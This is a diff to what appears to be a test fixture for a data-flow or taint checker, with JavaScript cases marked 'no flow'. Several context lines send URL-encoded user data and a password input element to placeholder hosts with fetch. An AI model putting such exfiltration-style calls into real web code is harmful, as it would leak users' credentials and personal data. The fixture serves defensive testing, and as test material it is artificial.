@@ -122,3 +122,10 @@ fetch('https://rt.enc.example/r?u=' + encodeURIComponent(copy.a.u));
 // no flow
 // why: an element has no enumerable own data, it becomes {}
 fetch('https://el.enc.example/e', { method: 'POST', body: JSON.stringify({ field: document.querySelector('input[type=password]') }) });
+
+//# random-id-not-stored
+// no flow
+// why: the id is made anew at each load and the field is not part of it
+const rid = crypto.randomUUID();
+document.querySelector('input[type=email]').dataset.rid = rid;
+fetch('https://rid.enc.example/r', { headers: { 'X-Request-Id': rid } });
